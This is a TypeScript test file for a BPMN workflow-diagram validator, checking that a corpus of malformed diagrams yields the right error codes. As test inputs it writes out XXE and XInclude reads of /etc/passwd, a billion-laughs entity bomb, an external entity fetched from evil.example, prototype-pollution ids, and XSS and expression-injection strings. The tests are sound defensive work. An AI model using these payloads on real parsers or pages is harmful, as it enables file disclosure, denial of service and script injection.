import { describe, expect, it } from 'vitest'
import { checkFile, checkReadable } from '../../../workflows/engine/check.ts'
import { readBpmn } from '../../../workflows/model/read-bpmn.ts'
import { rewriteBpmn } from '../../../workflows/model/write-bpmn.ts'

const head = `<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:zeebe="http://camunda.org/schema/zeebe/1.0"
  xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="d" targetNamespace="urn:test">`

const file = (inside: string, before = '') =>
  `${before}${head}<bpmn:process id="p" isExecutable="true">${inside}</bpmn:process></bpmn:definitions>`

const task = (id: string, more = '') => `<bpmn:task id="${id}" ${more}/>`
const flow = (from: string, to: string, inside = '') =>
  `<bpmn:sequenceFlow id="${from}-${to}" sourceRef="${from}" targetRef="${to}">${inside}</bpmn:sequenceFlow>`
const condition = (text: string, more = '') =>
  `<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" ${more}>${text}</bpmn:conditionExpression>`

async function problems(xml: string) {
  const result = await readBpmn(xml)
  if (result.ok) return checkFile(result.definitions)
  return result.readable ? checkReadable(result.problems, result.readable) : result.problems
}

const named = async (xml: string) => (await problems(xml)).map(({ code, elementId }) => `${code} ${elementId}`)

const nested = (levels: number) =>
  '<bpmn:subProcess id="s">'.repeat(levels).replaceAll(/id="s"/g, (_text, at: number) => `id="s${at}"`) +
  '</bpmn:subProcess>'.repeat(levels)
const laughs = (levels: number) =>
  `<!DOCTYPE d [${Array.from({ length: levels }, (_, i) => `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`).join('')}]>`

/** Milliseconds that this thread has worked: what else the machine does has no part in them. */
const spent = () => {
  const { user, system } = process.threadCpuUsage()
  return (user + system) / 1000
}

describe('the corpus of bad diagrams (reliability 7.1): what is told, of which element', () => {
  it.each([
    ['B04', file(task('t', 'name="&x;"'), '<!DOCTYPE d [<!ENTITY x "boom">]>'), 'xml.doctype null'],
    ['B04 an entity that nobody declared', file(task('t', 'name="a&nbsp;b"')), 'xml.syntax null'],
    ['B04 a bare ampersand', file(task('t', 'name="A & B"')), 'xml.syntax null'],
    ['a bare < in an attribute', file(task('t', 'name="a < b"')), 'xml.syntax null'],
    ['B05', file('', '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), 'xml.doctype null'],
    ['B06 three levels', file('', laughs(3)), 'xml.doctype null'],
    ['B06 nine levels', file('', laughs(9)), 'xml.doctype null'],
    ['B07', file('', '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>'), 'xml.doctype null'],
    [
      'B10',
      file('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
      'bpmn.unknown_element p',
    ],
    ['B14', file(task('t')).replace('20100524/MODEL', '20100524/OTHER'), 'bpmn.namespace null'],
    ['B14 of Camunda 8', file(task('t')).replace('schema/zeebe/1.0', 'schema/zeebe/9.9'), 'bpmn.namespace null'],
    ['B15', file(task('a') + task('a')), 'bpmn.duplicate_id a'],
    ['B16', file(task('a') + flow('a', 'nope')), 'bpmn.dangling_ref a-nope'],
    ['B17', file('<bpmn:evilTask id="e"/>'), 'bpmn.unknown_element e'],
    ['B18 __proto__', file(task('__proto__')), 'bpmn.reserved_id __proto__'],
    ['B18 constructor', file(task('constructor')), 'bpmn.reserved_id constructor'],
    ['B18 hasOwnProperty', file(task('hasOwnProperty')), 'bpmn.reserved_id hasOwnProperty'],
    ['B18 toString', file(task('toString')), 'bpmn.reserved_id toString'],
    [
      'B18 a variable',
      file(
        '<bpmn:task id="t"><bpmn:extensionElements><zeebe:ioMapping><zeebe:output source="=1" target="a.__proto__.b"/></zeebe:ioMapping></bpmn:extensionElements></bpmn:task>',
      ),
      'bpmn.reserved_name t',
    ],
    ['B19 a path', file(task('../x')), 'bpmn.id_format ../x'],
    ['B19 a quote', file(task('a&quot;b')), 'bpmn.id_format a"b'],
    ['B19 an emoji', file(task('😀')), 'bpmn.id_format 😀'],
    ['B19 text from right to left', file(task('a\u202eb')), 'bpmn.id_format a\u202eb'],
    ['B19 letters that the reader would take for none', file(task('审批')), 'bpmn.id_format 审批'],
    ['B19 ten kilobytes', file(task('x'.repeat(10_000))), `bpmn.id_format ${'x'.repeat(100)}`],
    ['B20', file(nested(20_000)), 'bpmn.depth'],
    [
      'B22',
      file(`<bpmn:task id="t" ${Array.from({ length: 5000 }, (_, i) => `a${i}="1"`).join(' ')}/>`),
      'bpmn.unknown_attribute t',
    ],
    [
      'B24 a flow into a start event',
      file(`<bpmn:startEvent id="s"/>${task('a')}${flow('s', 'a')}${flow('a', 's')}`),
      'bpmn.start_with_incoming s',
    ],
    ['B24 nowhere to begin', file(`${task('a')}${task('b')}${flow('a', 'b')}${flow('b', 'a')}`), 'bpmn.no_start p'],
    [
      'B25 an island',
      file(
        `<bpmn:startEvent id="s"/>${task('a')}${flow('s', 'a')}${task('x')}${task('y')}${flow('x', 'y')}${flow('y', 'x')}`,
      ),
      'bpmn.unreachable x',
    ],
    [
      'B25 no way to an end',
      file(
        `<bpmn:startEvent id="s"/><bpmn:userTask id="a"/><bpmn:userTask id="b"/>${flow('s', 'a')}${flow('a', 'b')}${flow('b', 'a')}`,
      ),
      'bpmn.unreachable a',
    ],
    [
      'B29 on a gateway',
      file(
        `<bpmn:startEvent id="s"/><bpmn:exclusiveGateway id="g"/>${flow('s', 'g')}<bpmn:boundaryEvent id="b" attachedToRef="g"><bpmn:timerEventDefinition><bpmn:timeDuration>PT1H</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:boundaryEvent>`,
      ),
      'bpmn.boundary_attachment b',
    ],
    [
      'B29 on itself',
      file(
        `<bpmn:startEvent id="s"/><bpmn:boundaryEvent id="b" attachedToRef="b"><bpmn:timerEventDefinition><bpmn:timeDuration>PT1H</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:boundaryEvent>`,
      ),
      'bpmn.boundary_attachment b',
    ],
    [
      'B29 in another scope',
      file(
        `<bpmn:startEvent id="s"/><bpmn:subProcess id="sub">${task('in')}</bpmn:subProcess>${flow('s', 'sub')}<bpmn:boundaryEvent id="b" attachedToRef="in"><bpmn:timerEventDefinition><bpmn:timeDuration>PT1H</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:boundaryEvent>`,
      ),
      'bpmn.boundary_attachment b',
    ],
    [
      'B30',
      file(
        `<bpmn:startEvent id="s"/><bpmn:subProcess id="sub">${task('in')}${flow('in', 'out')}</bpmn:subProcess>${task('out')}${flow('s', 'sub')}`,
      ),
      'bpmn.flow_crosses_scope in-out',
    ],
    [
      'B31 a default that leaves elsewhere',
      file(
        `<bpmn:startEvent id="s"/><bpmn:exclusiveGateway id="g" default="s-g"/>${task('a')}${flow('s', 'g')}${flow('g', 'a', condition('x'))}`,
      ),
      'bpmn.default_flow g',
    ],
    [
      'B31 a condition on the default',
      file(
        `<bpmn:startEvent id="s"/><bpmn:exclusiveGateway id="g" default="g-a"/>${task('a')}${flow('s', 'g')}${flow('g', 'a', condition('x'))}`,
      ),
      'bpmn.default_with_condition g',
    ],
    [
      'B32 JavaScript',
      file('<bpmn:scriptTask id="t" scriptFormat="javascript"><bpmn:script>1</bpmn:script></bpmn:scriptTask>'),
      'bpmn.forbidden_code t',
    ],
    ['B32 a class', file('<bpmn:serviceTask id="t" camunda:class="a.B"/>'), 'bpmn.forbidden_code t'],
    [
      'B32 a Java expression',
      file(`${task('a')}${task('b')}${flow('a', 'b', condition('${x}'))}`),
      'bpmn.forbidden_code a-b',
    ],
    [
      'B32 XPath',
      file(`${task('a')}${task('b')}${flow('a', 'b', condition('x', 'language="http://www.w3.org/1999/XPath"'))}`),
      'bpmn.forbidden_code a-b',
    ],
    ['a process without an id', file(task('t')).replace('id="p" ', ''), 'bpmn.missing d'],
    ['a node without an id', file(`${task('t')}<bpmn:task name="x"/>`), 'bpmn.missing p'],
    ['a flow without a source', file(`${task('t')}<bpmn:sequenceFlow id="f" targetRef="t"/>`), 'bpmn.missing f'],
    ['a truth that is neither', file('<bpmn:subProcess id="u" triggeredByEvent="1"/>'), 'bpmn.unknown_value u'],
    [
      'a boundary event that may interrupt',
      file(`${task('a')}<bpmn:boundaryEvent id="b" attachedToRef="a" cancelActivity="maybe"/>`),
      'bpmn.unknown_value b',
    ],
    [
      'a loop in an order that there is not',
      file(
        '<bpmn:task id="t"><bpmn:multiInstanceLoopCharacteristics isSequential="yes"><bpmn:loopCardinality>2</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:task>',
      ),
      'bpmn.unknown_value t',
    ],
    ['an order of an ad-hoc', file('<bpmn:adHocSubProcess id="h" ordering="Random"/>'), 'bpmn.unknown_value h'],
    [
      'a start at a time that only a variable says',
      file(
        '<bpmn:startEvent id="s"><bpmn:timerEventDefinition><bpmn:timeDuration>=wait</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:startEvent>',
      ),
      'bpmn.start_value s',
    ],
    ['an event that waits for nothing', file('<bpmn:intermediateCatchEvent id="c"/>'), 'bpmn.missing c'],
    ['a boundary event on nothing', file('<bpmn:boundaryEvent id="b"/>'), 'bpmn.missing b'],
    [
      'a variable that no expression can read',
      file(
        '<bpmn:task id="t"><bpmn:extensionElements><zeebe:ioMapping><zeebe:output source="=1" target="a..b"/></zeebe:ioMapping></bpmn:extensionElements></bpmn:task>',
      ),
      'bpmn.variable_name t',
    ],
    [
      'B18 the element of a multi-instance',
      file(
        '<bpmn:task id="t"><bpmn:multiInstanceLoopCharacteristics><bpmn:extensionElements><zeebe:loopCharacteristics inputCollection="=x" inputElement="__proto__"/></bpmn:extensionElements></bpmn:multiInstanceLoopCharacteristics></bpmn:task>',
      ),
      'bpmn.reserved_name t',
    ],
    [
      'B34',
      file(
        '<bpmn:task id="t"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality xsi:type="bpmn:tFormalExpression">1000000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:task>',
      ),
      'mi.limit t',
    ],
  ])('%s', async (_row, xml, expected) => {
    const began = spent()
    const found = await named(xml)

    expect(found.some((line) => line.startsWith(expected))).toBe(true)
    expect(spent() - began).toBeLessThan(500)
    expect(({} as Record<string, unknown>)['isAdmin']).toBeUndefined()
  })

  it.each([
    ['a condition', `${task('a')}${task('b')}${flow('a', 'b', condition('true') + condition('false'))}`, 'a-b'],
    [
      'a cardinality',
      '<bpmn:task id="a"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>1</bpmn:loopCardinality><bpmn:loopCardinality>2</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:task>',
      'a',
    ],
    [
      'a loop, of either kind',
      '<bpmn:task id="a"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>1</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics><bpmn:standardLoopCharacteristics loopMaximum="1"/></bpmn:task>',
      'a',
    ],
    [
      'a duration',
      '<bpmn:intermediateCatchEvent id="a"><bpmn:timerEventDefinition><bpmn:timeDuration>PT1H</bpmn:timeDuration><bpmn:timeDuration>PT2H</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>',
      'a',
    ],
    ['extensions', '<bpmn:task id="a"><bpmn:extensionElements/><bpmn:extensionElements/></bpmn:task>', 'a'],
  ])('refuses %s that is given twice, of which a parser keeps the last', async (_what, inside, id) => {
    expect(await named(file(inside))).toContain(`bpmn.given_twice ${id}`)
  })

  it.each([
    [file(task('a')).slice(0, -10), /^文件不是完整的 XML:第 \d+ 行第 \d+ 列:有标签或注释没有结束。$/],
    [file(task('a', 'name="&nbsp;"')), /^文件不是完整的 XML:&nbsp; 不是字符引用。$/],
    [file(task('t') + task('\uFFFD')), /^文件应使用 UTF-8 编码,实际为 其他编码。$/],
  ])('says in Chinese what is wrong with a whole file', async (xml, sentence) => {
    expect((await problems(xml))[0]?.message.zh).toMatch(sentence)
  })

  it('warns of what is wrong with the drawing alone, and reads the rest', async () => {
    const drawing =
      '<bpmndi:BPMNDiagram xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI"><bpmndi:BPMNPlane id="plane" bpmnElement="gone" tint="red"/></bpmndi:BPMNDiagram>'
    const found = await problems(file(task('a')).replace('</bpmn:definitions>', `${drawing}$&`))

    expect(found).toMatchObject([
      { code: 'bpmn.unknown_attribute', elementId: 'plane', severity: 'warning' },
      { code: 'bpmn.dangling_ref', elementId: 'plane', severity: 'warning' },
    ])
  })

  it('tells what else is wrong with a file that cannot be read whole', async () => {
    const found = await named(
      file(
        `<bpmn:startEvent id="s"/><bpmn:exclusiveGateway id="g" default="nope"/><bpmn:serviceTask id="a"/>${task('b')}${task('b')}<bpmn:evilTask id="x"/>` +
          `${flow('s', 'g')}${flow('g', 'a', condition('1 +'))}${flow('g', 'b', condition('true'))}${flow('b', 'x')}`,
      ),
    )

    expect(found.sort()).toEqual([
      'bpmn.dangling_ref b-x',
      'bpmn.dangling_ref g',
      'bpmn.duplicate_id b',
      'bpmn.missing a',
      'bpmn.unknown_element x',
      'feel.syntax g-a',
    ])
  })

  it('B32 keeps the text of the code nowhere', async () => {
    const found = await problems(
      file(
        '<bpmn:scriptTask id="t" scriptFormat="javascript"><bpmn:script>stealSecrets()</bpmn:script></bpmn:scriptTask>',
      ),
    )

    expect(JSON.stringify(found)).not.toContain('stealSecrets')
  })

  it('B33 takes what looks like code in a name as its text, and writes it escaped', async () => {
    const name = "${''.getClass()} &lt;img src=x onerror=alert(1)&gt; =cmd()"

    expect(await named(file(task('t', `name="${name}"`)))).toEqual([])
    expect(await rewriteBpmn(file(task('t', `name="${name}"`)))).toContain('&#60;img src=x')
  })

  it('tells everything at once', async () => {
    const xml = file(
      `<bpmn:startEvent id="s"/><bpmn:serviceTask id="job"/><bpmn:exclusiveGateway id="g" default="s-job"/><bpmn:endEvent id="e"/>
      ${flow('s', 'job')}${flow('job', 'g')}${flow('g', 'e', condition('1 +* 2'))}${flow('e', 's')}`,
    )

    expect(await named(xml)).toEqual(
      expect.arrayContaining([
        'bpmn.default_flow g',
        'bpmn.end_with_outgoing e',
        'bpmn.missing job',
        'bpmn.start_with_incoming s',
        'feel.syntax g-e',
      ]),
    )
  })
})
